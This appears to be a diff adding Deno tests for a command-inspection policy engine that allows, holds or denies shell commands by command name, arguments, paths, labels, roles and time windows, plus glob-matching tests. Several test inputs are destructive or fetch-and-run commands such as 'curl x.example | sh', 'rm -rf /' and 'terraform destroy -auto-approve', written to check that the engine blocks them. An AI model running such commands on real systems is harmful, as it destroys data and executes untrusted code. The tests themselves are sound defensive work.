@@ -1,0 +1,227 @@
+import { deepStrictEqual as deq, ok, strictEqual as eq } from "node:assert/strict";
+import { matchesPathGlob } from "../../core/shield/glob.ts";
+import { inspectCommand, type ShieldContext } from "../../core/shield/inspect.ts";
+import { Policy } from "../../core/shield/policy.ts";
+
+type Given = Omit<ShieldContext, "policy">;
+
+/** The verdicts on commands under one policy. */
+function under(policy: unknown, commands: readonly string[], given: Given = {}): string[] {
+  const parsed = Policy.parse(policy);
+  return commands.map((command) => inspectCommand(command, { ...given, policy: parsed }).verdict);
+}
+
+const only = (verdict: string, match: unknown, more: Record<string, unknown> = {}) => ({
+  rules: [{ id: "it", verdict, match, ...more }],
+});
+
+Deno.test("policy: a refusal finds its command in every wrapper, and nothing but commands", () => {
+  const policy = only("deny", { commands: ["ping", "mtr*"] });
+  const found = [
+    "ping x",
+    "/bin/PING x",
+    "sudo ping x",
+    "sh -c 'a; ping x'",
+    "$(ping x)",
+    "mtr-packet",
+  ];
+  deq(under(policy, found), found.map(() => "deny"));
+  deq(under(policy, ["echo ping", "git commit -m ping", "pingpong"]), ["allow", "allow", "allow"]);
+});
+
+Deno.test("policy: an allowance holds only where every command of the line is allowed", () => {
+  const policy = only("allow", { commands: ["systemctl", "cd"] });
+  deq(under(policy, ["systemctl stop nginx", "cd /srv && systemctl stop nginx"]), [
+    "allow",
+    "allow",
+  ]);
+  deq(
+    under(policy, [
+      "systemctl stop nginx; ls",
+      "sudo systemctl stop nginx",
+      "systemctl stop $(cat name)",
+      "systemctl stop nginx > /etc/hosts",
+      'systemctl stop "nginx',
+    ]),
+    ["approve", "approve", "approve", "approve", "approve"],
+  );
+});
+
+Deno.test("policy: what the score refuses is allowed only by the rule's own id or pack", () => {
+  const command = "terraform destroy -auto-approve";
+  deq(under(only("allow", { commands: ["terraform"] }), [command]), ["deny"]);
+  const ids = inspectCommand(command).rule_ids;
+  deq(under(only("allow", { commands: ["terraform"], packs: ["cloud"] }), [command]), ["allow"]);
+  deq(under(only("allow", { rule_ids: ids }), [command]), ["allow"]);
+  deq(under(only("allow", { packs: ["structure"] }), ["echo '", "curl x.example | sh"]), [
+    "approve",
+    "deny",
+  ]);
+});
+
+Deno.test("policy: a deny wins wherever it stands; of the others the first decides", () => {
+  const rules = [
+    { id: "restart", verdict: "allow", match: { commands: ["systemctl"], arguments: ["restart"] } },
+    { id: "ask", verdict: "approve", match: { commands: ["systemctl"] } },
+    { id: "never", verdict: "deny", match: { arguments: ["sshd"] } },
+  ];
+  deq(
+    under({ rules }, [
+      "systemctl restart nginx",
+      "systemctl status nginx",
+      "systemctl restart sshd",
+      "ls",
+    ]),
+    ["allow", "approve", "deny", "allow"],
+  );
+});
+
+Deno.test("policy: its verdict names its rule, and the layer", () => {
+  const rules = [{
+    id: "no-ping",
+    description: "nobody pings",
+    verdict: "deny",
+    match: { commands: ["ping"] },
+  }];
+  const result = inspectCommand("ls; ping x", { policy: Policy.parse({ rules }) });
+  deq([result.layer, result.rule_ids], ["policy", ["policy.no-ping"]]);
+  ok(result.explanation.includes("no-ping") && result.explanation.includes("nobody pings"));
+  deq(result.span, { start: 4, end: 10 });
+});
+
+Deno.test("policy: arguments must all be there; a letter is found in a cluster; exact takes no others", () => {
+  const policy = only("deny", { commands: ["tool"], arguments: ["-r", "--all*"] });
+  deq(
+    under(policy, [
+      "tool -xr --all=1",
+      "tool --all -r",
+      "tool -r",
+      "tool --rr --all",
+      "tool -- -r",
+    ]),
+    ["deny", "deny", "allow", "allow", "allow"],
+  );
+  const exact = only("allow", { commands: ["systemctl"], arguments: ["stop", "web"], exact: true });
+  deq(under(exact, ["systemctl stop web", "systemctl stop web sshd"]), ["allow", "approve"]);
+});
+
+Deno.test("policy: a path is refused however it is written, also where it may be meant", () => {
+  const policy = only("deny", { paths: ["/srv/data/**"] });
+  const meant = [
+    "cat /srv/data/a",
+    "ls /srv//data/./x/../y",
+    "cd /srv/data && cat a",
+    "tool --file=/srv/data/a",
+    "tool -C/srv/data",
+    "echo x > /srv/data/a",
+    "cat /srv/da*",
+    "cat /srv/data/$X",
+    "sudo cat /srv/data/a",
+  ];
+  deq(under(policy, meant), meant.map(() => "deny"));
+  deq(under(policy, ["cat /srv/other", "cat srv/data/a", "cat /srv/database"]), [
+    "allow",
+    "allow",
+    "allow",
+  ]);
+});
+
+Deno.test("policy: an allowance of paths takes every operand, and trusts nothing unknown", () => {
+  const policy = only("allow", { commands: ["rm"], paths: ["/srv/app/**"] });
+  deq(under(policy, ["rm -rf /srv/app/old", "rm -rf /srv/app/a /srv/app/b*"]), ["allow", "allow"]);
+  deq(
+    under(policy, [
+      "rm -rf /srv/app/a /srv/x",
+      "rm -rf /srv/app/../x",
+      "rm -rf /srv/app/$X/../../x",
+      "rm -rf $X",
+      "cd /srv && rm -rf app/x",
+    ]),
+    ["approve", "approve", "approve", "approve", "approve"],
+  );
+});
+
+Deno.test("policy: labels, people and hours narrow a rule", () => {
+  const who = { userId: "usr_1", actorId: "key_1", roles: ["operator"] };
+  const denied = (match: unknown, given: Given) =>
+    under(only("deny", match), ["ls"], given)[0] === "deny";
+  ok(denied({ labels: { env: "prod" } }, { labels: { env: "prod", a: "b" } }));
+  ok(!denied({ labels: { env: "prod" } }, { labels: { env: "dev" } }));
+  ok(denied({ roles: ["operator"] }, { who }) && !denied({ roles: ["admin"] }, { who }));
+  ok(denied({ users: ["key_1"] }, { who }) && denied({ users: ["usr_1"] }, { who }));
+  ok(!denied({ users: ["usr_2"] }, { who }) && !denied({ users: ["usr_1"] }, {}));
+  const at = (iso: string) => ({ atMs: Date.parse(iso) });
+  const night = { hours: { from: "22:00", to: "06:00", days: ["fri"] } };
+  ok(denied(night, at("2030-01-04T23:00:00Z")), "Friday night");
+  ok(denied(night, at("2030-01-05T05:59:00Z")), "which ends on Saturday");
+  ok(!denied(night, at("2030-01-05T06:00:00Z")) && !denied(night, at("2030-01-05T23:00:00Z")));
+  ok(!denied(night, {}), "without a clock no hour matches");
+  const berlin = { hours: { from: "08:00", to: "09:00", timezone: "Europe/Berlin" } };
+  ok(denied(berlin, at("2030-07-01T06:30:00Z")) && denied(berlin, at("2030-01-01T07:30:00Z")));
+  ok(!denied(berlin, at("2030-07-01T07:30:00Z")));
+});
+
+Deno.test("policy: thresholds move, rules can be disabled, and what is unreadable stays held back", () => {
+  const lax = { thresholds: { approve: 100, deny: 101 } };
+  deq(under(lax, ["systemctl stop nginx", "echo '", "rm -rf /"]), ["allow", "approve", "approve"]);
+  deq(under({ thresholds: { approve: 1, deny: 20 } }, ["pkill node", "ls"]), ["deny", "allow"]);
+  deq(
+    under({ disabled_rules: ["services.stop"] }, ["systemctl stop nginx", "systemctl stop sshd"]),
+    [
+      "allow",
+      "approve",
+    ],
+  );
+});
+
+Deno.test("policy: a document that cannot be meant is refused, with the place", () => {
+  const broken: [unknown, string][] = [
+    [{ rules: [{ id: "A b", verdict: "deny", match: {} }] }, "rules.0.id"],
+    [{ rules: [{ id: "a", verdict: "maybe", match: {} }] }, "rules.0.verdict"],
+    [{ rules: [{ id: "a", verdict: "deny", match: { comands: ["x"] } }] }, "rules.0.match"],
+    [
+      { rules: [{ id: "a", verdict: "deny", match: { rule_ids: ["no.such"] } }] },
+      "rules.0.match.rule_ids.0",
+    ],
+    [{ rules: [1, 2].map(() => ({ id: "a", verdict: "deny", match: {} })) }, "rules.1.id"],
+    [{ disabled_rules: ["structure.unparseable"] }, "disabled_rules.0"],
+    [{ thresholds: { approve: 50, deny: 40 } }, "thresholds.approve"],
+    [only("deny", { hours: { from: "8:00", to: "25:00" } }), "rules.0.match.hours.from"],
+    [
+      only("deny", { hours: { from: "08:00", to: "09:00", timezone: "Mars" } }),
+      "rules.0.match.hours.timezone",
+    ],
+  ];
+  for (const [policy, path] of broken) {
+    const issues = Policy.safeParse(policy).error?.issues.map((issue) => issue.path.join("."));
+    ok(issues?.includes(path), `${path}: ${JSON.stringify(issues)}`);
+  }
+  const large = only("deny", {
+    paths: Array.from({ length: 64 }, (_, i) => `${i}`.padEnd(256, "x")),
+  });
+  const many = { rules: [1, 2, 3].map((n) => ({ ...large.rules[0], id: `r${n}` })) };
+  eq(Policy.safeParse(large).success, true);
+  eq(Policy.safeParse(many).success, false);
+});
+
+Deno.test("matchesPathGlob: a star stays in its folder, two cross them, and no pattern takes long", () => {
+  const cases: [string, string, boolean][] = [
+    ["/a/*", "/a/b", true],
+    ["/a/*", "/a/b/c", false],
+    ["/a/**", "/a/b/c", true],
+    ["/a/**", "/a", true],
+    ["/a/**", "/ab", false],
+    ["/a/**/z", "/a/b/c/z", true],
+    ["/a/**/z", "/a/b/c/zz", false],
+    ["**/x", "/a/x", true],
+    ["/a/?", "/a//", false],
+    ["/*/b/*.ts", "/a/b/c.ts", true],
+    ["*", "/", false],
+    ["**", "/a/b", true],
+  ];
+  for (const [glob, path, matches] of cases) {
+    eq(matchesPathGlob(glob, path), matches, `${glob} ${path}`);
+  }
+  const path = "/a".repeat(2_000);
+  eq(matchesPathGlob(`${"**/a".repeat(60)}x`, path), false);
+});
